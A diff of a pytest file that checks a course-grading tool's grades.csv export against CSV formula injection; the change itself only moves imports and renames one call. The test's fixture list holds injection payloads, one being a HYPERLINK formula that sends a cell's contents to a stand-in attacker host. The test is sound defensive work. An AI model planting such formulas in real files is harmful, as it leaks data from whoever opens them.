@@ -1,4 +1,4 @@
-"""grades.csv is safe to open in a spreadsheet (tools/grades.py): a text cell that a
+"""grades.csv is safe to open in a spreadsheet (tools/instructor/grades.py): a text cell that a
 spreadsheet would run as a formula (starting with "=", "+", "-", "@", a tab or a carriage
 return: OWASP's CSV injection) is written with a "'" before it, and numbers stay numbers.
 Issue 39, case 8: student ids such as =HYPERLINK(...), +2+3, -2+3, @SUM(1+1) and a
@@ -15,11 +15,11 @@ import zoneinfo
 import pytest
 from openpyxl import Workbook
 
-from tools import gradebook
-from tools.course import build_course
-from tools.grades import cell, export, late_column
-from tools.late import Policy, decide
-from tools.release import release
+from tools.course.late import Policy, decide
+from tools.instructor import gradebook
+from tools.instructor.build import build_course
+from tools.instructor.grades import cell, export, late_column
+from tools.instructor.release import release
 
 FORMULAS = ['=HYPERLINK("http://evil.example?"&A1,"x")', "+2+3", "-2+3", "@SUM(1+1)",
             "\tleading-tab", "\rcarriage"]
@@ -58,7 +58,7 @@ def test_no_cell_of_grades_csv_is_a_formula_and_numbers_stay_numbers(course):
             gb.add_submission("unit1", student)
             statuses["unit1", student] = (
                 f"graded; {FORMULAS[0]}.ipynb graded as 01_layernorm_forward.ipynb", "0")
-    gradebook.record(course, statuses)
+    gradebook.set_graded(course, statuses)
     out = course / "grades.csv"
     with contextlib.redirect_stdout(io.StringIO()):
         export(course, out)
